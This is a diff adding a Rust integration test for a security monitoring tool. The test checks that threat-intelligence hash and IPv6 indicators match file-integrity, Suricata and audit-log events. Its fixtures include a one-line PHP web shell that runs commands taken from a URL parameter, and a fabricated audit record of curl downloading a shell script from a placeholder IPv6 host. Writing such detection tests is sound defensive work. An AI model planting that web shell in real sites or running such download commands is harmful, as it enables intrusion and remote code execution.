@@ -394,3 +394,89 @@ fn hunt_runs_new_indicators_over_the_store() {
     assert!(text.starts_with(&format!("{} of ", hunted.len())), "{text}");
     let _ = std::fs::remove_dir_all(&d);
 }
+
+/// File hashes from file integrity monitoring (`tansa fim`), Suricata's fileinfo and IPv6
+/// addresses inside command lines meet hash and network indicators.
+#[test]
+fn hash_indicators_meet_fim_and_file_events_and_ipv6_networks_meet_command_lines() {
+    let d = tmp("hashes");
+    let data = d.join("data");
+    let www = d.join("www");
+    std::fs::create_dir_all(&www).unwrap();
+    std::fs::write(www.join("index.php"), "<?php echo 'hello';\n").unwrap();
+    let shell = b"<?php system($_GET['c']);\n";
+    std::fs::write(www.join("shell.php"), shell).unwrap();
+    let sha = String::from_utf8(
+        succeed(std::process::Command::new("sha256sum").arg(www.join("shell.php"))).stdout,
+    )
+    .unwrap()
+    .split_whitespace()
+    .next()
+    .unwrap()
+    .to_owned();
+    succeed(
+        tansa()
+            .arg("--data")
+            .arg(&data)
+            .args(["fim", "baseline"])
+            .arg(&www),
+    );
+    let eve = d.join("eve.json");
+    std::fs::write(
+        &eve,
+        "{\"timestamp\":\"2026-03-14T10:00:00.000000+0000\",\"flow_id\":7,\"event_type\":\"fileinfo\",\
+         \"src_ip\":\"192.0.2.80\",\"dest_ip\":\"10.0.0.5\",\"fileinfo\":{\"filename\":\"/x.bin\",\
+         \"md5\":\"0123456789abcdef0123456789abcdef\",\"size\":10}}\n",
+    )
+    .unwrap();
+    let audit = d.join("audit.log");
+    std::fs::write(
+        &audit,
+        "type=SYSCALL msg=audit(1773446401.120:501): arch=c000003e syscall=59 success=yes exit=0 \
+         ppid=4100 pid=4242 auid=1001 uid=0 ses=7 comm=\"curl\" exe=\"/usr/bin/curl\" key=\"exec\"\n\
+         type=EXECVE msg=audit(1773446401.120:501): argc=3 a0=\"curl\" a1=\"-g\" a2=\"http://[2001:db8:bad::7]/x.sh\"\n\
+         type=EOE msg=audit(1773446401.120:501):\n",
+    )
+    .unwrap();
+    let feed = d.join("hashes.txt");
+    std::fs::write(
+        &feed,
+        format!(
+            "{}\n0123456789ABCDEF0123456789ABCDEF\n2001:db8:bad::/48\n",
+            sha.to_uppercase()
+        ),
+    )
+    .unwrap();
+    let mut cmd = tansa();
+    cmd.args([
+        "--format",
+        "json",
+        "analyze",
+        "--no-store",
+        "--no-geoip",
+        "--intel",
+    ])
+    .arg(&feed)
+    .arg(data.join("fim"))
+    .arg(&eve)
+    .arg(&audit);
+    let out = succeed(&mut cmd);
+    let hit: BTreeSet<String> = json_lines(&out.stdout)
+        .iter()
+        .filter(|a| a["threat"]["feed"]["name"] == "hashes")
+        .map(|a| {
+            a["threat"]["indicator"]["name"]
+                .as_str()
+                .unwrap()
+                .to_owned()
+        })
+        .collect();
+    let want: BTreeSet<String> = [
+        sha.clone(),
+        "0123456789abcdef0123456789abcdef".into(),
+        "2001:db8:bad::/48".into(),
+    ]
+    .into();
+    assert_eq!(hit, want, "{}", String::from_utf8_lossy(&out.stdout));
+    let _ = std::fs::remove_dir_all(&d);
+}
